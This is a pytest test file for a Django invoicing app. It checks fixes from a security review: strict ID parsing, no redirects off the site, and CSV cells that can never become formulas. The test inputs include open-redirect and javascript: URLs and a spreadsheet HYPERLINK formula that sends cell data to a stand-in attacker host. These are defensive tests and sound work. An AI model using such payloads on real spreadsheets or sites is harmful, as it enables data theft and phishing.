"""Crafted input answers a clear page, never a 500 or a redirect to another site (security review findings)."""

import pytest
from django.urls import reverse

from onport.csv_files import spreadsheet_safe
from onport.request_values import ids_from

pytestmark = pytest.mark.django_db


def test_only_ascii_whole_numbers_are_ids():
    assert ids_from(["12", " 7 ", "²", "1e3", "-4", "3\x00", "", "99999999999999999999"]) == [12, 7]


@pytest.mark.parametrize("next_url", ["https://evil.example/x", "//evil.example", "javascript:alert(1)", "/ok\x00"])
def test_bulk_sync_never_redirects_off_site(finance_client, next_url):
    response = finance_client.post(reverse("sync:invoices_sync"), {"invoice": "²", "next": next_url})

    assert response.status_code == 302 and response["Location"] == reverse("invoicing:invoice_list")


def test_bulk_sync_goes_back_to_the_search_it_came_from(finance_client):
    back = reverse("invoicing:invoice_list") + "?number=INV"

    response = finance_client.post(reverse("sync:invoices_sync"), {"next": back})

    assert response["Location"] == back


def test_sync_progress_ignores_ids_that_are_not_numbers(finance_client):
    assert finance_client.get(reverse("sync:progress"), {"ids": "²,1,\x00"}).status_code == 200


@pytest.mark.parametrize(
    "value,written",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Lumen Lighting", "Lumen Lighting"),
    ],
)
def test_payout_csv_cells_are_never_formulas(value, written):
    assert spreadsheet_safe(value) == written
